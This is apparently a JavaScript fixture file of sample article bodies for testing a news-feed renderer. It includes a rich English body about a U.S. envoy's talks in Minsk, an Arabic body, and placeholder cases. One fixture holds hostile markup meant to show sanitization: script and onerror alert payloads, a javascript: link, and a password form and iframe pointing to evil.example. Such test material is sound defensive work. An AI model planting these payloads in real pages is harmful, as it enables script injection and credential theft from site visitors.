/** Article bodies the stories and the scratch screenshots share: every kind of block, an Arabic body, hostile markup. */
import { seedArticleFeed } from '../../sample/sample-data.js';

/** The seed article's first section, then every block the body styles: figure, list, quote, table, code, rule. */
export const RICH_BODY_FEED = seedArticleFeed({
  content_html: `<h2 id="us-diplomatic-efforts">U.S. Diplomatic Efforts</h2>
<p>March 19 (Reuters) - U.S. presidential envoy John Coale met Belarusian President Alexander Lukashenko in Minsk on Thursday on his <a href="https://www.reuters.com/">latest mission</a> to try to negotiate the release of political prisoners.</p>
<figure><img src="/sample/images/coale-lukashenko-hero.svg" width="1200" height="675" alt="John Coale and Alexander Lukashenko in Minsk"><figcaption>Coale and Lukashenko met in Minsk on March 19. Illustration.</figcaption></figure>
<h3 id="releases-so-far">Releases so far</h3>
<ul><li>Dozens of political prisoners last September.</li><li>A further 123 in December, including Ales Bialiatski.</li><li>Talks on reopening the U.S. embassy in Minsk.</li></ul>
<blockquote><p>"I think my perspective on global issues, especially the situation in the Middle East, will be important to you."</p></blockquote>
<table><caption>Prisoner releases</caption><thead><tr><th>Month</th><th>Released</th><th>Notable names</th><th>U.S. step in return</th></tr></thead>
<tbody><tr><td>September 2025</td><td>52</td><td>Opposition activists</td><td>Sanctions on Belavia eased</td></tr><tr><td>December 2025</td><td>123</td><td>Ales Bialiatski, Maria Kalesnikava, Viktar Babaryka</td><td>Potash sanctions removed</td></tr></tbody></table>
<h4 id="the-numbers">The numbers</h4>
<p>Human rights groups count more than <strong>1,100</strong> Belarusians behind bars; the figure comes from <code>spring96.org</code>.</p>
<pre><code>releases = { "2025-09": 52, "2025-12": 123 }</code></pre>
<hr>
<p>Reporting by Reuters; editing by the newsroom.</p>`,
});

/** An article in Arabic, to read right to left. */
export const ARABIC_BODY_FEED = seedArticleFeed({
  language: 'ar',
  content_html: `<h2 id="ar-1">الجهود الدبلوماسية الأمريكية</h2>
<p>التقى المبعوث الرئاسي الأمريكي جون كول الرئيس البيلاروسي ألكسندر لوكاشينكو في مينسك يوم الخميس في أحدث مهمة له للتفاوض على إطلاق سراح السجناء السياسيين.</p>
<blockquote><p>«أعتقد أن وجهة نظري بشأن القضايا العالمية ستكون مهمة لكم».</p></blockquote>
<ul><li>إطلاق سراح العشرات في سبتمبر.</li><li>و123 آخرين في ديسمبر.</li></ul>`,
});

/** Hostile markup that renders inert: what survives is plain text and a safe link. */
export const HOSTILE_BODY_FEED = seedArticleFeed({
  content_html: `<h2 id="hostile">Hostile markup, rendered inert</h2>
<p style="position:fixed;inset:0;background:red">This paragraph asked to cover the page (its style is gone).</p>
<img src=x onerror="alert(1)" alt="An image with an onerror handler">
<p><a href="javascript:alert(1)">A javascript: link (now without href)</a> and <a href="https://example.org/" target="_top" onclick="alert(1)">a safe link</a>.</p>
<form action="https://evil.example/"><input name="password" placeholder="Password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><script>alert(1)</script><style>:host{display:none}</style>
<p>Nothing above ran, loaded or escaped the widget.</p>`,
});

/** Text only: `content_text` shows as paragraphs. */
export const TEXT_BODY_FEED = seedArticleFeed({
  content_html: undefined,
  content_text:
    'U.S. presidential envoy John Coale met Belarusian President Alexander Lukashenko in Minsk on Thursday.\n\nA feed without HTML still reads as paragraphs.',
});

/** A body too long to show whole (over 2,000 blocks): its first part, then the note with a link to the article. A made-up body of placeholder paragraphs. */
export const LONG_BODY_FEED = seedArticleFeed({
  content_html: '<p>A placeholder paragraph of a very long article, repeated to pass the display limit.</p>'.repeat(2100),
});

/** Neither body: the empty state. */
export const NO_BODY_FEED = seedArticleFeed({ content_html: undefined, content_text: undefined });
